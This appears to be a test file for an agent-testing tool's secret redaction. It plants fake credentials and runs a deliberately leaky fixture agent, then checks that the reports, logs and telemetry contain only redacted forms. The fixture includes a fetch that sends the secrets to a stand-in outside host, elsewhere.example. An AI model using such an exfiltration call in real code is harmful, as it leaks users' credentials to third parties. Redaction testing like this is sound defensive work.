import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { byEnvironment, byName, byShape } from '../harness/model/redaction/testing/planted.ts';
import { reporters } from '../reports/index.ts';
import { otel } from '../reports/otel/otel.ts';
import { openCollector } from './testing/collector.ts';
import { brownout, type Ended } from './testing/command.ts';
import { folderInside, type Folder } from './testing/folder.ts';

const limitMs = 240_000;
const planted: readonly string[] = [
  ...[byName, byShape, byEnvironment].flatMap((some) => Object.values(some)),
  'd4tabase-pw-31',
];

/** Sends what it knows on every way there is, and says it when it fails. */
const agentText = `
import { readFileSync } from 'node:fs';
const { byName, byShape, byEnvironment } = JSON.parse(readFileSync('secrets.json', 'utf8'));
const loose = [...Object.values(byShape), ...Object.values(byEnvironment)];
const words = ['here they are:', ...loose, ...Object.values(byName)].join(' ');
const query = new URLSearchParams(Object.entries(byName)).toString();
export async function agent(shop, model, say) {
  const post = (url, body) => fetch(url, { method: 'POST', body: JSON.stringify(body) });
  const chat = (content) => post(model + '/chat/completions', {
    model: 'm', messages: [{ role: 'system', content: JSON.stringify(byName) }, { role: 'user', content }],
  }).then((reply) => reply.json());
  say(JSON.stringify(byName));
  for (const one of [...loose, ...Object.values(byName)]) say('it has ' + one);
  for (const one of loose) {
    await fetch(shop + '/items/' + encodeURIComponent(one));
    await chat('use ' + one);
  }
  await fetch(shop + '/items?' + query).catch(() => {});
  await fetch('http://elsewhere.example/?' + query).catch(() => {});
  const sent = await post(shop + '/orders', { ...byName, notes: loose, args: JSON.stringify(byName) });
  if (!sent.ok) {
    const short = await sent.text();
    throw new Error('refused: ' + short + ' ' + words.slice(0, 1500));
  }
  return { status: 'done', ...byName, words, echo: await sent.json() };
}`;

const scenarioText = `
import { api, check, completes, eventsOf, http, HttpResponse, inProcess, provider, refuse, scenario,
  service } from 'brownout';
import { agent } from './agent.mjs';

const shop = api([
  http.post('/orders', async ({ request }) => HttpResponse.json({ id: 'O-1', got: await request.json() })),
  http.get('/items', ({ request }) => HttpResponse.json({ asked: request.url })),
], { effects: ['POST /orders'] });
const model = provider({ keep: 'all', script: ({ user, told }) => [
  'you said ' + user, { call: { name: 'order', args: JSON.parse(told) } } ] });
const says = check('says', (trace) => {
  const inputs = eventsOf(trace, 'call.start').map(({ input }) => JSON.stringify(input)).join(' ');
  return { result: 'fail', reason: inputs.slice(-3000), signature: inputs.slice(-300), evidence: [] };
});
const base = {
  points: { shop, model }, tasks: [{ input: { ...JSON.parse(process.env.PLANTED_INPUT) } }],
  plan: [refuse({ status: 503 }).at('shop', { call: 'POST /orders', calls: 1 })], checks: [completes(), says],
};
const system = inProcess((at) => () => agent(at.url('shop'), at.url('model'), () => {}));
export default [
  scenario('in process', { ...base, system }),
  scenario('searched', { ...base, system, checks: [completes()] }),
  scenario('as a command', { ...base, system: service({
    command: ['node', 'command.mjs'], ask: 'stdin', answer: 'all',
    env: (at) => ({ SHOP: at.url('shop'), MODEL: at.url('model') }) }) }),
  scenario('dies at start', { ...base, system: service({ command: ['node', 'dies.mjs'], ask: 'POST /' }) }),
];`;

const commandText = `
import { agent } from './agent.mjs';
const say = (line) => { console.error(line); };
console.log(JSON.stringify(await agent(process.env.SHOP, process.env.MODEL, say)));`;

const diesText = `
import { agent } from './agent.mjs';
await agent('http://127.0.0.1:1', 'http://127.0.0.1:1', console.error).catch(() => {});
process.exit(3);`;

let user: Folder;
const env = { ...byEnvironment, PLANTED_INPUT: JSON.stringify(byName) };
beforeAll(async () => {
  user = await folderInside();
  await user.write('secrets.json', JSON.stringify({ byName, byShape, byEnvironment }));
  await user.write('agent.mjs', agentText);
  await user.write('command.mjs', commandText);
  await user.write('dies.mjs', diesText);
  await user.write('a.scenario.ts', scenarioText);
});
afterAll(() => user.remove());

const start = (...args: readonly string[]) =>
  brownout([...args, '--out', 'out'], { cwd: user.path, env, limitMs: 200_000 });

function filesIn(folder: string): readonly string[] {
  return readdirSync(folder).flatMap((name) => {
    const file = path.join(folder, name);
    return statSync(file).isDirectory() ? filesIn(file) : [file];
  });
}

/** Which secrets stand in a text, in whatever spelling. */
function secretsIn(text: string): readonly string[] {
  return planted.filter((secret) => {
    const inJson = JSON.stringify(secret).slice(1, -1);
    const inHtml = secret.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
    return [secret, inJson, inHtml, encodeURIComponent(secret)].some((one) => text.includes(one));
  });
}

function demandNone({ stdout, stderr }: Ended, kinds: readonly RegExp[]): void {
  expect(secretsIn(stdout + stderr)).toEqual([]);
  const files = filesIn(path.join(user.path, 'out'));
  const leaks = files.flatMap((file) =>
    secretsIn(readFileSync(file, 'utf8')).map((it) => [file, it]),
  );
  expect(leaks).toEqual([]);
  for (const kind of kinds) {
    const those = files.filter((file) => kind.test(file));
    expect(
      those.some((file) => readFileSync(file, 'utf8').includes('[redacted:')),
      `a file like ${String(kind)} tells what the agent said, with \`[redacted:\` in place of a secret`,
    ).toBe(true);
  }
}

test('there are enough of them, and they would be seen', () => {
  expect(planted.length).toBeGreaterThanOrEqual(40);
  expect(secretsIn(JSON.stringify(planted)).length).toBe(planted.length);
});

const all = ['--reporter', [...reporters, otel].map(({ name }) => name).join(',')];

test('no artifact of runs holds a secret, nor what is pushed', { timeout: limitMs }, async () => {
  const collector = await openCollector();
  const ended = await start('run', 'a.scenario.ts', ...all, '--otlp', collector.address);
  collector.close();
  expect(collector.got()).toContain('[redacted:');
  expect(secretsIn(collector.got())).toEqual([]);
  demandNone(ended, [
    ...[...reporters, otel].map(
      ({ file }) => new RegExp(`${file.replaceAll('.', String.raw`\.`)}$`),
    ),
    /runs\/.*json$/,
    /\.repro\.json$/,
  ]);
});

test('nor one of a search', { timeout: limitMs }, async () => {
  const ended = await start(
    'explore',
    'a.scenario.ts',
    '-t',
    'searched',
    '--depth',
    '1',
    '--keep-going',
    '--budget',
    '12',
    ...all,
  );
  demandNone(ended, [/exploration\.json$/, /journal/, /\.repro\.json$/]);
});

test('nor one of a load', { timeout: limitMs }, async () => {
  const short = ['--rate', '2', '--phases', 'baseline:2s,fault:2s'];
  const ended = await start('load', 'a.scenario.ts', '-t', 'in process', ...short);
  demandNone(ended, [/load\.json$/, /load\.html$/, /load\.md$/, /load\.otlp\.json$/]);
});
